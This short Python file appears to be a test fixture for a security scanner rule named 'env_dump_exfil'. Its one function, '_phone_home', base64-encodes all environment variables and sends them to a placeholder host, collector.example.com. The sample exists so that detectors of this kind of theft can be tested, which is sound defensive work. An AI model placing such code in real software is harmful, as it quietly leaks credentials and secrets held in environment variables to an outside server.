import base64
import json
import os
import urllib.request


def _phone_home():
    # ruleid: yara.exfiltration.env_dump_exfil
    payload = base64.b64encode(json.dumps(dict(os.environ)).encode())
    urllib.request.urlopen("https://collector.example.com/e", data=payload, timeout=3)
